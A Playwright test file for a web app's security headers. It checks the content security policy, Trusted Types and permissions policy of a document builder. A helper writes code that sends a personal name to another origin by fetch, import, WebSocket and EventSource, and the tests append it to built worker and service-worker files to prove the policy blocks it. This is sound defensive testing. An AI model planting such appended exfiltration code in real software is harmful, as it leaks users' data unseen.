import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, type Page, test } from '@playwright/test'
import { downloadPdf, goTo } from './builder.ts'
import { type Elsewhere, elsewhereWith } from './elsewhere.ts'
import { newWorker, visit } from './offline-site.ts'
import { type OwnSite, ownSite } from './own-site.ts'
import { pages } from './pages.ts'

/** What tampered code does: it sends a name to another origin, in every way that a worker has. */
const sending = (address: string) => `
  const to = '${address}Maya%20Okafor/'
  fetch(to + 'fetch', { method: 'POST', mode: 'no-cors', body: 'Maya Okafor' }).catch(() => undefined)
  import(to + 'import').catch(() => undefined)
  try { new WebSocket(to.replace('http', 'ws') + 'socket') } catch {}
  try { new EventSource(to + 'events') } catch {}
`

function tamper(site: OwnSite, name: string, code: string): void {
  const file =
    name === 'sw.js'
      ? name
      : `_astro/${readdirSync(join(site.dir, '_astro')).find((one) => one.startsWith(name))}`
  const path = join(site.dir, file)
  writeFileSync(path, `${readFileSync(path, 'utf8')};${code}`)
}

async function makePaper(page: Page, site: OwnSite): Promise<void> {
  await page.goto(`${site.address}builder/?example=two-peers`)
  await expect(page.getByRole('heading', { name: 'Check what you wrote' })).toBeVisible()
  await goTo(page, 'Paper')
  await downloadPdf(page)
}

test.describe('code that was tampered with', () => {
  let other: Elsewhere
  test.beforeEach(async () => {
    other = await elsewhereWith()
  })
  test.afterEach(() => other.stop())

  for (const sendsHeaders of [true, false]) {
    test(`in the engine sends nothing from a host that sends ${sendsHeaders ? 'our' : 'no'} headers`, async ({
      page,
    }) => {
      const site = await ownSite({ sendsHeaders })
      tamper(site, 'engine.worker', sending(other.address))
      await makePaper(page, site)
      expect(other.asked).toEqual([])
      await site.stop()
    })
  }

  test('in the engine can’t talk its way out of the page’s policy', async ({ page }) => {
    const site = await ownSite({ sendsHeaders: false })
    tamper(
      site,
      'engine.worker',
      `${sending(other.address)}; if (location.protocol === 'blob:') throw Error('bound')`,
    )
    await page.goto(`${site.address}builder/?example=two-peers`)
    await goTo(page, 'Paper')
    await page.getByRole('button', { name: 'Download the PDF' }).click()
    await expect(page.getByText('The PDF could not be made', { exact: false })).toBeVisible()
    expect(other.asked).toEqual([])
    await site.stop()
  })

  test.describe('in the service worker', () => {
    test.use({ serviceWorkers: 'allow' })
    test('sends nothing from a host that sends our headers', async ({ page }) => {
      const site = await ownSite()
      tamper(site, 'sw.js', sending(other.address).replace(/import\(.*/, ''))
      await visit(page, site.address)
      expect(other.asked).toEqual([])
      await site.stop()
    })
  })
})

test('where a browser runs no worker from a blob, a plain one makes the paper', async ({ page }) => {
  const site = await ownSite({ sendsHeaders: false })
  for (const file of ['builder/index.html']) {
    const path = join(site.dir, file)
    writeFileSync(path, readFileSync(path, 'utf8').replace("worker-src 'self' blob:", "worker-src 'self'"))
  }
  await makePaper(page, site)
  await site.stop()
})

test.describe('of the policy and Trusted Types', () => {
  test.use({ serviceWorkers: 'allow' })

  test('nothing is violated on any page, in the search, the builder and the cards', async ({ page }) => {
    test.setTimeout(300_000)
    const site = await ownSite()
    await newWorker(site.dir)
    const violated: string[] = []
    await page.exposeFunction('tell', (what: string) => void violated.push(what))
    await page.addInitScript(() => {
      addEventListener('securitypolicyviolation', (event) =>
        (globalThis as unknown as { tell(what: string): void }).tell(
          `${location.pathname} ${event.violatedDirective} ${event.blockedURI} ${event.sample}`,
        ),
      )
    })
    for (const path of pages) await page.goto(new URL(`.${path}`, site.address).href)
    await visit(page, `${site.address}start/what-it-is/`)
    await page.keyboard.press('Control+k')
    await page.getByLabel('Search the guide').fill('feedback')
    await expect(page.locator('.search-results mark').first()).toBeVisible()
    await makePaper(page, site)
    await page.goto(`${site.address}templates/cards/#questions=feedback-how`)
    const coming = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Make the cards' }).click()
    await coming
    expect(violated).toEqual([])
    await site.stop()
  })
})

test('a string is no code and no markup to a page', async ({ page }) => {
  await page.goto('/builder/')
  const refused = await page.evaluate(() => {
    const tries = [
      () => document.body.insertAdjacentHTML('beforeend', '<b>'),
      () => void new Worker('/sw.js'),
      () => void document.createRange().createContextualFragment('<b>'),
    ]
    return tries.map((attempt) => {
      try {
        attempt()
        return 'done'
      } catch (reason) {
        return reason instanceof Error ? reason.name : 'odd'
      }
    })
  })
  expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError'])
})

test('a page may use camera, clipboard, full screen, wake lock and sharing, and nothing else', async ({
  page,
}) => {
  const site = await ownSite()
  await page.goto(site.address)
  const allowed = await page.evaluate(() =>
    (
      document as unknown as { featurePolicy: { allowedFeatures(): string[] } }
    ).featurePolicy.allowedFeatures(),
  )
  const ours = ['camera', 'clipboard-write', 'fullscreen', 'screen-wake-lock', 'web-share']
  expect(allowed.filter((feature) => !ours.includes(feature))).toEqual([])
  expect(allowed).toEqual(expect.arrayContaining(ours.slice(0, 4))) // this browser may have nothing to share with
  await site.stop()
})
